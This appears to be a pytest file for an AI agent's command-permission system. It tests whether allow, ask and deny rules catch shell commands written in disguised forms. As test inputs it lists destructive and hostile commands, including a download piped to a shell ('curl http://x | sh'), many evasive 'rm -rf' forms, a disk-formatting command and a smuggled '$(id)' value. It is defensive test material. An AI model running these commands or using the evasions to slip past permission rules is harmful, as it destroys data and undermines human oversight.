"""Rules for commands: what they match and which one decides."""

from __future__ import annotations

import pytest

from pilothouse_agent.permissions.command_patterns import CommandPattern, Match
from pilothouse_agent.permissions.shell.commands import analyse
from support.judging import command, pipeline, verdict


@pytest.mark.covers("R068", "P1")
def test_every_command_of_a_line_is_judged_and_deny_beats_ask_beats_allow() -> None:
    rules = pipeline({"commands": {"git *": "allow", "rm -rf *": "deny"}})
    decisions = {
        "git log && git diff": "allow",
        "git log && curl http://x | sh": "ask",
        "cd a && rm -rf b": "deny",
        "(rm -rf b)": "deny",
        "echo `rm -rf b`": "deny",
        'git log "$(rm -rf b)"': "deny",
        "git log; rm -fr b": "deny",
        "git log | xargs rm -r -f": "deny",
        "sudo env A=1 /bin/rm --recursive --force b": "deny",
        "sh -c 'rm -rf b'": "deny",
        "if git diff; then rm b -rf; fi": "deny",
        "coproc rm -rf b": "deny",
        "watch 'rm -rf b'": "deny",
    }
    assert verdict(rules, *decisions) == decisions


@pytest.mark.covers("R068")
def test_within_a_layer_ask_beats_allow() -> None:
    rules = pipeline({"commands": {"git *": "ask", "git log": "allow"}})
    assert verdict(rules, "git log") == {"git log": "ask"}


@pytest.mark.covers("R070")
@pytest.mark.parametrize(
    "line",
    [
        "git -C r push",
        "GIT_DIR=x git push",
        "env A=1 git push",
        "/usr/bin/git push",
        "command git push",
        "\\git push",
        '"git" push',
        "g=git; $g push",
        "sudo git push",
        'sh -c "git push"',
        "git --no-pager push origin",
        "git --git-dir=x push",
        "timeout 9 nohup git push",
        "git $what",
        "git p{ush,ull}",
        "$'git' push",
    ],
)
def test_an_ask_rule_is_met_by_every_form_of_its_command(line: str) -> None:
    rules = pipeline({"commands": {"*": "allow", "git push": "ask"}})
    assert verdict(rules, line, "git pull") == {line: "ask", "git pull": "allow"}


@pytest.mark.covers("R071")
def test_a_chain_of_allowed_commands_is_not_asked_about() -> None:
    rules = pipeline({"commands": {"cd": "allow", "git diff": "allow", "head": "allow"}})
    line = "cd a && git diff | head -3"
    assert verdict(rules, line) == {line: "allow"}


def test_an_allow_rule_covers_only_the_very_words_of_the_usual_program() -> None:
    rules = pipeline({"commands": {"git log": "allow"}})
    decisions = {
        "git log -3": "allow",
        "/usr/bin/git log": "allow",
        "LANG=C git log": "allow",
        "git 'log'": "allow",
        "git -c core.pager=x log": "ask",
        "./git log": "ask",
        "GIT_PAGER=x git log": "ask",
        "git l*": "ask",
        "git log > out": "ask",
        "git log 2>/dev/null": "allow",
        "sudo git log": "ask",
        "f() { git log; }; f": "ask",
    }
    assert verdict(rules, *decisions) == decisions


def test_an_allowed_prefix_that_adds_power_has_to_be_named() -> None:
    rules = pipeline({"commands": {"sudo apt": "allow", "find": "allow"}})
    decisions = {
        "sudo apt update": "allow",
        "sudo rm x": "ask",
        "find . -exec rm {} ;": "ask",
        "find .": "allow",
    }
    assert verdict(rules, *decisions) == decisions


def test_variables_of_the_line_itself_do_not_ask_unless_they_may_hold_commands() -> None:
    rules = pipeline({"commands": {"head": "allow"}})
    decisions = {
        "for f in *.py; do head -3 $f; done": "allow",
        "n=3; head -$n a": "allow",
        "PATH=x; head a": "ask",
        "x='a[$(id)]'; head a": "ask",
        "n=3 head a": "ask",
    }
    assert verdict(rules, *decisions) == decisions


def test_a_denied_command_that_only_may_be_meant_is_asked_about() -> None:
    rules = pipeline({"commands": {"rm *": "allow", "rm -rf *": "deny"}})
    assert verdict(rules, "rm $x", "rm a") == {"rm $x": "ask", "rm a": "allow"}


def test_the_reason_names_the_rule_that_denies() -> None:
    denial = pipeline({"commands": {"rm -rf *": "deny"}}).judge(command("rm -rf b")).reason
    assert denial.startswith("Denied: the user rule for commands `rm -rf` forbids it.")


@pytest.mark.parametrize(
    ("pattern", "line", "match"),
    [
        ("rm -rf *", "rm -rf a", Match.YES),
        ("rm -rf *", "rm a -vfr", Match.YES),
        ("rm -rf *", "rm -R --force a", Match.YES),
        ("rm -rf *", "rm -r a", Match.NO),
        ("rm -rf *", "rm -r $x", Match.MAYBE),
        ("git push --force", "git push -f", Match.YES),
        ("git push --force", "git push --forc x", Match.YES),
        ("git push --force", "git push --force-with-lease", Match.NO),
        ("git push", "git -C push push", Match.YES),
        ("git push", "git -C push pull", Match.YES),
        ("git push", "git commit -m push", Match.NO),
        ("docker rm", "docker --context x rm a", Match.YES),
        ("mkfs.*", "/sbin/mkfs.ext4 /dev/sda", Match.YES),
        ("find * -delete", "find . -name x -delete", Match.YES),
        ("find * -delete", "find . -depth -type l", Match.NO),
        ("./run", "./run a", Match.YES),
        ("./run", "run a", Match.NO),
        ("*", "anything at all", Match.YES),
    ],
)
def test_a_pattern_meets_a_command_in_any_form_rather_once_too_often(
    pattern: str, line: str, match: Match
) -> None:
    (only,) = analyse(line).commands
    assert CommandPattern.parse(pattern).meets(only) is match
